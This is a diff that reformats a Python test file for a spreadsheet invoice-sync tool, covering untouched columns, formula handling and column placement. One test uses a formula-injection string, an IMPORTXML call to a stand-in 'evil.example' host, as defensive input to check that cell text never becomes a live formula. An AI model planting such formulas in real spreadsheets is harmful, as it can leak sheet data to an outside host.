@@ -7,24 +7,56 @@ from typing import Any
 from tests.conftest import PERSON_HEADER, World
 from tests.fakes.sheets_server import Formula
 
-ROW = {"Status": "draft", "Customer Email": "ann@example.com", "Description": "Work",
-       "Unit Price": "99.00"}
+ROW = {
+    "Status": "draft",
+    "Customer Email": "ann@example.com",
+    "Description": "Work",
+    "Unit Price": "99.00",
+}
 
 
 def test_people_columns_and_formulas_are_untouched(world: World) -> None:
-    header = ["Notes", *PERSON_HEADER, "Margin", "Sync ID", "Stripe ID", "Payment URL",
-              "PDF URL", "Total", "Amount Paid", "Refunded", "Paid At", "Last Synced", "Error"]
-    world.make_sheet([
-        {**ROW, "Notes": "call first", "Margin": Formula("=F2*0.3", 29.7)},
-        {"Notes": "a note on its own row"},
-        {**ROW, "Customer Email": "", "Margin": Formula("=F4*0.3", 29.7)},
-    ], header=header)
+    header = [
+        "Notes",
+        *PERSON_HEADER,
+        "Margin",
+        "Sync ID",
+        "Stripe ID",
+        "Payment URL",
+        "PDF URL",
+        "Total",
+        "Amount Paid",
+        "Refunded",
+        "Paid At",
+        "Last Synced",
+        "Error",
+    ]
+    world.make_sheet(
+        [
+            {**ROW, "Notes": "call first", "Margin": Formula("=F2*0.3", 29.7)},
+            {"Notes": "a note on its own row"},
+            {**ROW, "Customer Email": "", "Margin": Formula("=F4*0.3", 29.7)},
+        ],
+        header=header,
+    )
     before = world.grid()
     world.run()
     after = world.grid()
 
-    written = {"Status", "Invoice #", "Sync ID", "Stripe ID", "Payment URL", "PDF URL",
-               "Total", "Amount Paid", "Refunded", "Paid At", "Last Synced", "Error"}
+    written = {
+        "Status",
+        "Invoice #",
+        "Sync ID",
+        "Stripe ID",
+        "Payment URL",
+        "PDF URL",
+        "Total",
+        "Amount Paid",
+        "Refunded",
+        "Paid At",
+        "Last Synced",
+        "Error",
+    }
     for r, (old, new) in enumerate(zip(before, after, strict=True)):
         for c, name in enumerate(header):
             if name not in written or r == 0:
@@ -34,11 +66,13 @@ def test_people_columns_and_formulas_are_untouched(world: World) -> None:
 
 def test_text_that_looks_like_a_formula_never_becomes_one(world: World) -> None:
     sneaky = '=IMPORTXML("https://evil.example/", "//x")'
-    world.make_sheet([
-        {**ROW, "Description": sneaky},
-        {**ROW, "Customer Email": sneaky},
-        {**ROW, "Invoice #": "+1-555"},
-    ])
+    world.make_sheet(
+        [
+            {**ROW, "Description": sneaky},
+            {**ROW, "Customer Email": sneaky},
+            {**ROW, "Invoice #": "+1-555"},
+        ]
+    )
     world.run()
     grid = world.grid()
     assert not [cell for row in grid for cell in row if isinstance(cell, Formula)]
@@ -56,8 +90,18 @@ def test_missing_sheetsync_columns_are_added_at_the_right(world: World) -> None:
     world.run()
     grid = world.grid()
     assert grid[0][:5] == header
-    assert grid[0][5:] == ["Sync ID", "Stripe ID", "Payment URL", "PDF URL", "Total",
-                           "Amount Paid", "Refunded", "Paid At", "Last Synced", "Error"]
+    assert grid[0][5:] == [
+        "Sync ID",
+        "Stripe ID",
+        "Payment URL",
+        "PDF URL",
+        "Total",
+        "Amount Paid",
+        "Refunded",
+        "Paid At",
+        "Last Synced",
+        "Error",
+    ]
     assert world.rows()[0]["Status"] == "sent" and world.rows()[0]["Notes"] == "keep"
 
 
